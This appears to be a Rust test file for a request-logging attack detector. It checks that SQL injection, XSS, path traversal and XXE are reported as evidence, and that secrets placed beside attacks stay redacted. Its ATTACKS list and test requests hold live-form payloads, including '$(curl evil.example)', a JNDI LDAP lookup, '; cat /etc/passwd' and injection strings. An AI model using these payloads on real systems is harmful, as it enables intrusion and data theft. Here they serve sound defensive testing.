use api_sessions_detect::{AttackKinds, Workspace, detect};
use api_sessions_extract::KeyExport;
use api_sessions_extract::builtin::EntrySet;
use api_sessions_extract::testing::FakeExchange;
use api_sessions_extract::{NoVariables, Point, SessionKey};
use api_sessions_protocol::{Evidence, Record};
use proptest::prelude::*;

use crate::record::{RecordEncoder, RecordOptions, RequestMeta};
use api_sessions_identity::{Fallback, Hasher, Keys, Phase, resolve};
use api_sessions_redact::FullContent;

/// The line of a request, with what the detectors find in it.
fn line(exchange: &FakeExchange, masks: &[&str], hashed: &[&str]) -> String {
    let hasher = Hasher::new(&[1; 32]);
    let point = |text: &&str| Point::parse(text, &mut NoVariables).unwrap();
    let masks: Vec<_> = masks.iter().map(point).collect();
    let own: Vec<_> = hashed
        .iter()
        .map(|text| SessionKey {
            point: point(text),
            name: "key".into(),
            export: KeyExport::Hashed,
        })
        .collect();
    let (mut scratch, mut found) = Default::default();
    let keys = Keys { own: &own, builtin: true, fallback: Fallback::IpUa, demoted: EntrySet::NONE };
    let resolution = resolve(keys, exchange, Phase::Log, &hasher, &mut scratch, &mut found);
    let mut workspace = Workspace::default();
    let kinds = detect(exchange, AttackKinds::all(), &mut workspace);
    let kinds: Vec<_> = kinds.iter().map(|kind| kind.as_str()).collect();
    let facts =
        RequestMeta { attacks: &kinds, findings: workspace.findings(), ..RequestMeta::default() };
    let settings = RecordOptions {
        keys,
        params: &[],
        masks: &masks,
        shown: &[],
        content: FullContent::Redacted,
        hasher: &hasher,
    };
    let mut encoder = RecordEncoder::default();
    let line = encoder.encode(&facts, &settings, &resolution, &found, exchange, &mut scratch);
    String::from_utf8(line.to_vec()).unwrap()
}

fn evidence(exchange: &FakeExchange, masks: &[&str]) -> Vec<(String, String, String, String)> {
    let line = line(exchange, masks, &[]);
    let record: Record<'_> = serde_json::from_str(&line).unwrap();
    assert_eq!(record.evidence.len(), record.attacks.len(), "{line}");
    let parts = |it: Evidence<'_>| {
        let name = it.name.unwrap_or_default().into_owned();
        (it.kind.into_owned(), it.place.into_owned(), name, it.matched.into_owned())
    };
    record.evidence.into_iter().map(parts).collect()
}

#[test]
fn what_the_content_shows_is_shown_with_what_stands_around_it() {
    let form = "application/x-www-form-urlencoded";
    for (exchange, kind, place, name, part) in [
        (
            FakeExchange::get("/?q=shoes%27%20UNION%20SELECT%20login%20FROM%20users--"),
            "sqli",
            "query",
            "q",
            "shoes' UNION SELECT login FROM users--",
        ),
        (FakeExchange::get("/a/../../../etc/passwd"), "path_traversal", "path", "", "/etc/passwd"),
        (
            FakeExchange::get("/")
                .body("application/json", r#"{"a":{"note":"<img src=\"x\" onerror=alert(1)>"}}"#),
            "xss",
            "json",
            "note",
            "<img src=\"x\" onerror=alert(1)>",
        ),
        (
            FakeExchange::get("/").body(form, "comment=%3Cscript%3Ealert(1)%3C/script%3E"),
            "xss",
            "form",
            "comment",
            "<script>alert(1)</script>",
        ),
        (
            FakeExchange::get("/").body(
                "text/xml",
                "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><r>&e;</r>",
            ),
            "xxe",
            "xml",
            "",
            "SYSTEM \"file:///etc/passwd\"",
        ),
    ] {
        let all = evidence(&exchange, &[]);
        let found = all.iter().find(|it| it.0 == kind);
        let Some(found) = found else { panic!("no {kind} in {all:?}") };
        assert_eq!((&*found.1, &*found.2), (place, name), "{all:?}");
        assert!(found.3.contains(part), "{part} is not in {all:?}");
        assert!(found.3.len() <= 64, "{all:?}");
    }
}

#[test]
fn an_attack_in_a_hidden_value_showed_only_its_type() {
    let json = "application/json";
    for (exchange, masks, name, shown) in [
        (
            FakeExchange::get("/").body(json, r#"{"password":"Zq7hunter2' OR 1=1 --"}"#),
            &[][..],
            "password",
            "' OR 1=1",
        ),
        (
            FakeExchange::get("/")
                .header("Cookie", "sid=Zq7hunter2' UNION SELECT Zq8secret FROM Zq9table--"),
            &[],
            "sid",
            "' UNION SELECT \u{2026} FROM \u{2026}",
        ),
        (
            FakeExchange::get("/?note=Zq7hunter2%3Cscript%3Ealert(Zq8secret)%3C/script%3E"),
            &["request.query.note"],
            "note",
            "<script>alert(\u{2026})",
        ),
    ] {
        let line = line(&exchange, masks, &[]);
        assert!(!line.contains("Zq"), "{line}");
        let all = evidence(&exchange, masks);
        assert!(all.iter().any(|it| it.2 == name && it.3.contains(shown)), "{shown} {line}");
    }
}

/// Plants a value in one of several places of a request.
fn planted(place: u8, name: &str, value: &str) -> FakeExchange {
    let url = |text: &str| -> String { text.bytes().map(|byte| format!("%{byte:02X}")).collect() };
    let json = serde_json::to_string(value).unwrap();
    let base64 = |text: &str| {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(text)
    };
    let get = FakeExchange::get("/x");
    let form = "application/x-www-form-urlencoded";
    match place {
        0 => FakeExchange::get(&format!("/x?a=1&{name}={}", url(value))),
        1 => get.header("Cookie", format!("a=1; {name}={}", url(value))),
        2 if name == "password" => get.header("X-Auth-Token", value.replace(['\r', '\n'], " ")),
        2 => get.header("X-Custom", value.replace(['\r', '\n'], " ")),
        3 => get.body(form, format!("{name}={}&b=2", url(value))),
        4 => get.body("application/json", format!("{{\"a\":[{{\"{name}\":{json}}}]}}")),
        5 => get.body(
            "multipart/form-data; boundary=b",
            format!(
                "--b\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n--b--\r\n"
            ),
        ),
        6 => {
            let text = value.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
            get.body("text/xml", format!("<r><{name}>{text}</{name}></r>"))
        }
        7 => get.body(form, format!("data={}", url(&format!("{{\"{name}\":{json}}}")))),
        8 => {
            let inner = base64(&format!("{{\"{name}\":{json}}}"));
            get.body("application/json", format!("{{\"data\":\"{inner}\"}}"))
        }
        9 => get.body("application/json", format!("{{\"{name}\":{json}, broken")),
        _ => get.body("text/plain", format!("hello {name}={json} bye")),
    }
}

const ATTACKS: &[&str] = &[
    "' OR '1'='1' --",
    "' UNION SELECT a,b FROM users--",
    "<script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "; cat /etc/passwd",
    "$(curl evil.example)",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "*)(uid=*))(|(uid=*",
    "<!--#exec cmd=\"id\"-->",
];

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, cases: 2000, ..ProptestConfig::default() })]

    /// `Zq` begins each part of the secret: none of it may appear in the content or the evidence.
    #[test]
    fn no_evidence_shows_a_secret_that_stands_beside_an_attack(
        place in 0..11_u8,
        is_masked in any::<bool>(),
        attack in proptest::sample::select(ATTACKS),
        secrets in proptest::collection::vec("Zq[a-zA-Z0-9]{6,30}", 2),
        (before, blank) in (any::<bool>(), proptest::sample::select(&["", " ", "/", "+", "'"][..])),
    ) {
        let value = match before {
            true => format!("{}{blank}{attack}", secrets[0]),
            false => format!("{attack}{blank}{}", secrets[1]),
        };
        let name = if is_masked { "note" } else { "password" };
        let masks = [
            "request.query.note", "request.cookie.note", "request.header.x-custom",
            "request.body.form.note", "request.body.json.a[0].note", "request.body.multipart.note",
        ];
        let masks = if is_masked { &masks[..] } else { &[] };
        // Where no point reads the value, only its name can hide it.
        prop_assume!(!is_masked || place < 6);
        let exchange = planted(place, name, &value);
        let line = line(&exchange, masks, &[]);
        let record: Record<'_> = serde_json::from_str(&line).unwrap();
        for secret in &secrets {
            for half in [&secret[..8], &secret[secret.len() - 6..]] {
                let shown = record.evidence.iter().any(|it| it.matched.contains(half));
                prop_assert!(!shown, "{half} of {value} in {line}");
            }
            prop_assert!(!line.contains(&**secret), "{secret} of {value} in {line}");
        }
    }
}
